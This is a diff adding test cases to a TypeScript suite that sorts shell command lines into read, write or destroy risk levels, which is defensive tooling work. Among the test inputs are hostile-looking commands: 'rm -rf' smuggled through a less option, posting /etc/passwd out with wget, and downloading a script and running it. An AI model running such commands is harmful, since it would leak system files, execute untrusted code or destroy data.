@@ -619,6 +619,48 @@ describe('classifyShell', () => {
     expect((await classify(line)).level).toBe(level);
   });
 
+  // Programs that read unless an option (or a subcommand) makes them write; GNU long options by any prefix.
+  it.each<[string, RiskLevel]>([
+    ['npm config set k v', 'write'],
+    ['sudo npm config delete k', 'write'],
+    ['yarn config set k v', 'write'],
+    ['npm config get k', 'read'],
+    ['npm config list', 'read'],
+    ['git fsck --lost-found', 'write'],
+    ['git -C x fsck --lost', 'write'],
+    ['git fsck', 'read'],
+    ['less -o f x', 'write'],
+    ['less -O f x', 'write'],
+    ['less -Rof x', 'write'],
+    ['less --log-file=f x', 'write'],
+    ['less --log=f x', 'write'],
+    ['cat x | less -o f', 'write'],
+    ["less '+!rm -rf x' f", 'destroy'],
+    ['less -R +G x', 'read'],
+    ['less "$F"', 'read'],
+    ['file -C -m x', 'write'],
+    ['file --comp -m x', 'write'],
+    ['file -m x f', 'read'],
+    ['pip download pkg', 'write'],
+    ['pip3 download pkg', 'write'],
+    ['pip list', 'read'],
+    ['wget --meth=DELETE https://x', 'destroy'],
+    ["sh -c 'wget --meth=DELETE https://x'", 'destroy'],
+    ['wget --meth "$M" https://x', 'destroy'],
+    ['wget -qO- -e method=DELETE https://x', 'destroy'],
+    ['wget -qO- -e "$X" https://x', 'destroy'],
+    ['wget -O- --post-d=a https://x', 'write'],
+    ['wget -qO- --post-file=/etc/passwd https://x', 'write'],
+    ['wget --spider --method=PUT https://x', 'write'],
+    ['wget -qO- -o log https://x', 'write'],
+    ['wget --output-d i.sh https://x && sh i.sh', 'destroy'],
+    ['wget -qO- -e robots=off https://x', 'read'],
+    ['wget --output-d=- https://x', 'read'],
+    ['wget -qO /dev/null https://x', 'read'],
+  ])('%s is %s', async (line, level) => {
+    expect((await classify(line)).level).toBe(level);
+  });
+
   it('{{ templates }} are filled in at run time, so the line is at least write', async () => {
     expect(await classify('echo {{ inputs.name }}')).toMatchObject({ level: 'write' });
     expect((await classify('rm -rf {{ inputs.dir }}')).level).toBe('destroy');
